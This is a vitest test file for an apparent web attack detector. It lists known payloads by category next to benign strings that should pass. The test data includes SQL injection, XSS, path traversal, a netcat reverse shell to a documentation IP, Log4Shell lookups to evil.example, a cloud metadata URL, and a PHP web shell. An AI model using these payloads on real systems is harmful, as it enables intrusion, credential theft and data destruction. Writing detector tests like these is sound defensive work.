import { describe, expect, it } from 'vitest'
import { ATTACK_CATEGORIES, type AttackCategory, detect, type InputKind } from './index'

const all = { rules: new Set<AttackCategory>(ATTACK_CATEGORIES), paranoia: 1 as const }

const ATTACKS: [AttackCategory, InputKind, string][] = [
  ['sqli', 'query', "1' OR '1'='1"],
  ['sqli', 'query', '1234 OR 1=1'],
  ['sqli', 'body', "admin'--"],
  ['sqli', 'query', '-1 UNION ALL SELECT username, password FROM users'],
  ['sqli', 'query', "1'; DROP TABLE users--"],
  ['sqli', 'query', "x' AND sleep(5)-- -"],
  ['sqli', 'query', '1 AND (SELECT 1 FROM information_schema.tables)'],
  ['sqli', 'query', "1'/**/UnIoN/**/SeLeCt/**/1,2--"],
  ['sqli', 'query', '%2527%2520or%25201%253D1--'],
  ['sqli', 'name', '$ne'],
  ['xss', 'query', '<script>alert(1)</script>'],
  ['xss', 'body', '<img src=x onerror=alert(1)>'],
  ['xss', 'body', '<svg/onload=alert(1)>'],
  ['xss', 'query', 'javascript:alert(document.cookie)'],
  ['xss', 'query', '" onmouseover="alert(1)'],
  ['xss', 'query', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['xss', 'query', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'],
  ['lfi', 'query', '../../../../etc/passwd'],
  ['lfi', 'query', '..%252f..%252f..%252fetc%252fpasswd'],
  ['lfi', 'path', '/static/..%2f..%2f..%2fwindows/win.ini'],
  ['lfi', 'query', '..\\..\\boot.ini'],
  ['rfi', 'query', 'http://203.0.113.7/shell.txt?'],
  ['rfi', 'query', 'php://filter/convert.base64-encode/resource=index.php'],
  ['rfi', 'query', 'http://169.254.169.254/latest/meta-data/'],
  ['rce', 'query', '; cat /etc/passwd'],
  ['rce', 'query', '| nc -e /bin/sh 203.0.113.7 4444'],
  ['rce', 'query', '$(whoami)'],
  ['rce', 'header', '() { :; }; /bin/bash -c "id"'],
  ['rce', 'query', "w'h'o'am'i;"],
  ['rce', 'body', 'require("child_process").exec("id")'],
  // A versioned tool with arguments is a command line; alone (`c99`, `python3`) it is a value.
  ['rce', 'body', 'c99 -wrapper sh,-c,id'],
  ['rce', 'body', 'ansible-console'],
  // An HTML character reference is text (`&copy;`), a recon tool between `&` and `;` is not.
  ['rce', 'body', '&whoami;'],
  ['php', 'body', '<?php system($_GET["c"]); ?>'],
  ['php', 'body', 'O:8:"stdClass":0:{}'],
  ['php', 'name', 'shell.php'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, not a template
  ['java', 'header', '${jndi:ldap://evil.example/a}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, not a template
  ['java', 'header', '${${lower:j}ndi:${lower:l}dap://evil.example/a}'],
  ['java', 'body', 'java.lang.Runtime.getRuntime().exec("id")'],
  // `Runtime` is a class beside `java.` (CRS 944110), a word of prose alone.
  ['java', 'query', 'java.Runtime'],
  ['ssti', 'body', '{{7*7}}'],
  ['xss', 'body', '<d i a l o g open>'],
  ['xss', 'body', 'width: expression(alert(document.domain))'],
  ['sqli', 'body', '/CREATE TABLE Persons'],
  ['sqli', 'body', "x' and ascii(substring(password,1,1))>64--"],
  ['sqli', 'body', 'ALTER TABLE `mails` ADD `x` TEXT'],
  ['ssti', 'body', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
  ['prototype-pollution', 'name', '__proto__'],
  ['prototype-pollution', 'name', 'a[constructor][prototype][isAdmin]'],
  ['scanner', 'user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
  ['scanner', 'user-agent', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'],
  ['scanner', 'path', '/.env'],
  ['scanner', 'path', '/.git/config'],
  ['scanner', 'path', '/wp-login.php'],
]

const BENIGN: [InputKind, string][] = [
  ['body', "O'Brien"],
  ['body', 'Please select a colour from the list where you see it.'],
  ['body', "It's 5 o'clock -- let's go; bring snacks & drinks."],
  ['body', 'Our cat likes to sleep (a lot).'],
  ['query', 'https://example.com/search?q=select+from+where'],
  ['query', '550e8400-e29b-41d4-a716-446655440000'],
  ['body', 'c99'],
  ['body', 'python3.12'],
  ['body', 'The runtime of the film is 2h 15m.'],
  ['body', 'Close the dialog and try again.'],
  ['body', 'Fish & Chips'],
  ['body', 'Copyright &copy; 2024, Palisade&reg;'],
  ['body', 'A regular expression (or a part of one) may repeat.'],
  ['body', 'Create user accounts, then drop table 5 from the booking.'],
  ['body', 'Store the MD5 (or SHA1) of the file and a UUID (v4) for it.'],
  ['body', '# Title\n\n```\nnpm install palisade\n```'],
  [
    'user-agent',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15',
  ],
  ['path', '/api/v1/users/42/orders'],
  ['name', 'constructor_name'],
  ['cookie', 'theme=dark'],
]

describe('detect', () => {
  it.each(ATTACKS)('finds %s in a %s value: %s', (category, kind, value) => {
    expect(detect(value, kind, all)).toBe(category)
    // Only that category enabled: it still fires; with it disabled, it does not.
    expect(detect(value, kind, { ...all, rules: new Set([category]) })).toBe(category)
    const others = new Set(ATTACK_CATEGORIES.filter((c) => c !== category))
    expect(detect(value, kind, { ...all, rules: others })).not.toBe(category)
  })

  it.each(BENIGN)('lets a benign %s value through: %s', (kind, value) => {
    expect(detect(value, kind, all)).toBeUndefined()
  })

  it('finds nothing with no rule enabled', () => {
    expect(detect("1' OR '1'='1", 'query', { rules: new Set(), paranoia: 2 })).toBeUndefined()
  })

  it('flags more at paranoia 2 than at 1', () => {
    const value = 'http://example.com/include.php'
    expect(detect(value, 'query', all)).toBeUndefined()
    expect(detect(value, 'query', { ...all, paranoia: 2 })).toBe('rfi')
  })

  it('answers undefined, never throws, on empty, huge and malformed input', () => {
    expect(detect('', 'query', all)).toBeUndefined()
    expect(detect('%', 'query', all)).toBeUndefined()
    expect(detect('%u12', 'query', all)).toBeUndefined()
    expect(detect('&#99999999999;', 'body', all)).toBeUndefined()
    expect(detect('\ud800', 'body', all)).toBeUndefined()
    expect(detect(undefined as unknown as string, 'body', all)).toBeUndefined()
    expect(detect('a'.repeat(200_000), 'body', all)).toBeUndefined()
  })

  it('finds an attack far into a long value (windows overlap)', () => {
    const value = `${'lorem ipsum '.repeat(2000)}<script>alert(1)</script>${' dolor'.repeat(2000)}`
    expect(detect(value, 'body', all)).toBe('xss')
  })
})

describe('detect: the name a value came under (remote file inclusion)', () => {
  it.each([
    ['_CONF[path]', 'https://foo.bar'],
    ['mosConfig_absolute_path', 'https://foo.bar'],
    ['include', 'http://evil.example/shell.txt'],
    ['DOCUMENT_ROOT', 'ftp://files.example/x'],
    ['tplIncludePath', 'https://evil.example/'],
  ])('a URL under %s is rfi', (name, value) => {
    expect(detect(value, 'query', all, name)).toBe('rfi')
    expect(detect(value, 'body', all, name)).toBe('rfi')
    // Without the name, the same URL is an ordinary one.
    expect(detect(value, 'query', all)).toBeUndefined()
  })

  it.each([
    ['root_url', 'https://git.example.com/'],
    ['redirect_uri', 'https://app.example.com/cb'],
    ['path', 'https://example.com/docs'],
    ['file', 'https://example.com/report.pdf'],
    ['include', 'photos'],
    ['include', 'https:// not a url'],
  ])('lets %s = %s through', (name, value) => {
    expect(detect(value, 'query', all, name)).toBeUndefined()
  })

  it('reads the name only where a URL is the value, and not in headers or paths', () => {
    expect(detect('https://foo.bar', 'header', all, 'include')).toBeUndefined()
    expect(detect('https://foo.bar', 'path', all, 'include')).toBeUndefined()
    expect(
      detect('https://foo.bar', 'query', { ...all, rules: new Set(['sqli']) }, 'include'),
    ).toBeUndefined()
  })
})
